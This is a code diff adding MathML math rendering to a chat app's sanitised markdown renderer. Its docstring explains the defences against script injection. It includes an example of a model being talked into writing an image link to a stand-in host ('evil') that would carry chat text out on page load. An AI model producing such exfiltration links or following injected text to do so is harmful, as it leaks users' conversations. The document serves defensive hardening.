@@ -4,6 +4,8 @@ Everything shown in the chat comes from users or models, so it is untrusted: mar
 HTML disabled, and its output still goes through nh3 with a strict allow-list, so a bug or an unusual
 construct in the markdown layer cannot smuggle a script, an event handler or a `javascript:` URL.
 
+Math (`$…$`, `$$…$$`, `\\(…\\)`, `\\[…\\]`) becomes MathML (math_markup).
+
 Markdown images become plain links: a model can be talked into writing `![x](https://evil/?d=<chat
 text>)`, and an image the page loads by itself would send that text away with no click. The pages'
 CSP (`img-src 'self' data:`) blocks remote images as a second line.
@@ -24,6 +26,8 @@ from pygments.formatters import HtmlFormatter
 from pygments.lexers import get_lexer_by_name
 from pygments.util import ClassNotFound
 
+from chatapp.chat.math_markup import MATH_ATTRIBUTES, MATH_TAGS, math_plugin
+
 CODE_CSS_CLASS = "hl"
 LIGHT_STYLE = "default"
 DARK_STYLE = "github-dark"
@@ -31,16 +35,18 @@ DARK_STYLE = "github-dark"
 _ALLOWED_TAGS = {
     "a", "b", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
     "hr", "i", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody",
-    "td", "th", "thead", "tr", "ul",
+    "td", "th", "thead", "tr", "ul", *MATH_TAGS,
 }
 _ALLOWED_ATTRIBUTES = {
     "a": {"href", "title"},
     "code": {"class"},
+    "div": {"class"},
     "pre": {"class", "data-lang"},
     "span": {"class"},
     "ol": {"start"},
     "th": {"style"},
     "td": {"style"},
+    **{tag: set(MATH_ATTRIBUTES) for tag in MATH_TAGS},
 }
 _URL_SCHEMES = {"http", "https", "mailto"}
 # Tables use inline `text-align`; nothing else is allowed in a style attribute.
@@ -84,6 +90,7 @@ _md = (
                               "maxNesting": MAX_NESTING})
     .enable("table")
     .enable("strikethrough")
+    .use(math_plugin)
 )
 _md.add_render_rule("image", _image_as_link)
 
